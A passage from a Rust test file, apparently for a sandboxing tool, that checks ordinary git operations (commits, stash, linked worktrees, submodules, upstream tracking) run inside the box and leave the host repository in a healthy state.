            let out = boxed_in(&f, &f.ws, flags, &extra, script);
            let c = ctx(who, mode, "git in a plain repository");
            check(stdout(&out).trim_end().ends_with("ok"), &c, &out);
            check(
                !stderr(&out).contains("not applied"),
                &format!("{c}: ordinary git state not applied"),
                &out,
            );
            // The host sees what the box did, and git is healthy there.
            check(
                git_ok(&f, &f.ws, &["rev-parse", "--abbrev-ref", "HEAD"]).trim() == "renamed",
                &format!("{c}: HEAD"),
                &out,
            );
            check(
                git_ok(&f, &f.ws, &["status", "--porcelain"])
                    .trim()
                    .is_empty(),
                &format!("{c}: index or worktree out of step"),
                &out,
            );
            let log = git_ok(&f, &f.ws, &["log", "--format=%s", "renamed"]);
            for s in ["one", "two", "topic", "main-side"] {
                check(
                    log.lines().any(|l| l == s),
                    &format!("{c}: commit {s} missing"),
                    &out,
                );
            }
            check(
                git_ok(&f, &f.ws, &["rev-parse", "--abbrev-ref", "renamed@{u}"]).trim()
                    == "origin/renamed",
                &format!("{c}: push -u tracking branch"),
                &out,
            );
            check(
                git_ok(&f, &f.ws, &["worktree", "list"]).contains(".worktrees/side"),
                &format!("{c}: worktree add"),
                &out,
            );
            git_ok(&f, &f.ws.join(".worktrees/side"), &["status"]);
            git_ok(&f, &f.ws, &["fsck", "--no-progress"]);
        }
    }
}

#[test]
fn git_works_in_a_linked_worktree() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let wt = worktree(&f);
            let script = r#"set -e
echo w > w.txt; git add w.txt; git commit -q -m in-worktree
echo s > s.txt; git add s.txt; git stash -q; git stash pop -q; git commit -q -m stashed
git checkout -q -b wt-next
git status --porcelain
echo ok"#;
            let out = boxed_in(&f, &wt, flags, &[], script);
            let c = ctx(who, mode, "git in a linked worktree");
            check(stdout(&out).trim_end().ends_with("ok"), &c, &out);
            check(
                !stderr(&out).contains("not applied"),
                &format!("{c}: ordinary git state not applied"),
                &out,
            );
            check(
                git_ok(&f, &wt, &["rev-parse", "--abbrev-ref", "HEAD"]).trim() == "wt-next",
                &format!("{c}: HEAD"),
                &out,
            );
            check(
                git_ok(&f, &wt, &["status", "--porcelain"])
                    .trim()
                    .is_empty(),
                &format!("{c}: index"),
                &out,
            );
            check(
                git_ok(&f, &f.ws, &["log", "--format=%s", "-1", "wt-next"]).trim() == "stashed",
                &format!("{c}: commits"),
                &out,
            );
            // The main checkout is untouched.
            check(
                git_ok(&f, &f.ws, &["status", "--porcelain"])
                    .trim()
                    .is_empty(),
                &format!("{c}: main checkout"),
                &out,
            );
        }
    }
}

#[test]
fn git_works_with_a_submodule() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = with_submodule(As::Me);
            // A fresh state: the submodule is declared but not checked out (as after a clone).
            git_ok(&f, &f.ws, &["submodule", "deinit", "-q", "-f", "lib"]);
            std::fs::remove_dir_all(f.ws.join(".git/modules/lib")).unwrap();
            chown_to(f.dir.path(), who);
            let f = Fixture { owner: who, ..f };
            let origin = f.dir.path().join("lib-origin");
            let script = r#"set -e
git -c protocol.file.allow=always submodule update -q --init
cat lib/lib.txt
echo more > lib/more.txt; git -C lib add more.txt; git -C lib commit -q -m more
git add lib; git commit -q -m bump
git status --porcelain
echo ok"#;
            let extra = ["--allow-read", origin.to_str().unwrap()];
            let out = boxed_in(&f, &f.ws, flags, &extra, script);
            let c = ctx(who, mode, "git with a submodule");
            check(
                stdout(&out).trim_end().ends_with("ok") && stdout(&out).contains("lib"),
                &c,
                &out,
            );
            check(
                !stderr(&out).contains("not applied"),
                &format!("{c}: ordinary git state not applied"),
                &out,
            );
            check(
                git_ok(&f, &f.ws, &["status", "--porcelain"])
                    .trim()
                    .is_empty(),
                &format!("{c}: superproject status"),
                &out,
            );
            check(
                git_ok(&f, &f.ws.join("lib"), &["log", "--format=%s", "-1"]).trim() == "more",
                &format!("{c}: submodule commit"),
                &out,
            );
            check(
                git_ok(&f, &f.ws, &["submodule", "status"]).starts_with(' '),
                &format!("{c}: submodule initialised"),
                &out,
            );
        }
    }
}
